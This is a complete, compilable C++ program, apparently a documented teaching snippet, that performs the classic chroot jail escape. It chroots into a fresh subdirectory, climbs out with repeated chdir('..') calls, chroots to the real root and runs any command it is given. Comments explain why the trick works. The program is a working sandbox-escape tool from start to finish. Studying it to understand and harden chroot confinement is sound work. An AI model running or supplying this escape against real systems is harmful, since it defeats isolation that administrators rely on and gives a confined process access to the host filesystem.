// break-out: the classic way out of a chroot.
//
// chroot() keeps one root per process. Whoever may call it again can move that
// root below its own working directory; then nothing stands between the
// working directory and the real root: ".." is only stopped AT the root, and
// this process is not at it any more, and never will be on its way up.
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

int fail(const char* what) {
    fprintf(stderr, "break-out: %s: %s\n", what, strerror(errno));
    return 1;
}

}  // namespace

//@ begin break-out
int main(int argc, char** argv) {
    if (argc < 2) return fprintf(stderr, "usage: break-out COMMAND...\n"), 2;
    if (chdir("/") != 0)
        return fail("chdir /");  // stay here, outside the next root
    mkdir("tmp/hole", 0755);     // any folder will do
    if (chroot("tmp/hole") != 0) {
        int error = errno;
        rmdir("tmp/hole");
        errno = error;
        return fail("second chroot");
    }
    rmdir("tmp/hole");  // not needed any more, not even as a root
    for (int i = 0; i < 64; ++i) {
        if (chdir("..") != 0) return fail("chdir ..");
    }
    if (chroot(".") != 0) return fail("third chroot");
    execvp(argv[1], argv + 1);
    return fail(argv[1]);
}
//@ end break-out
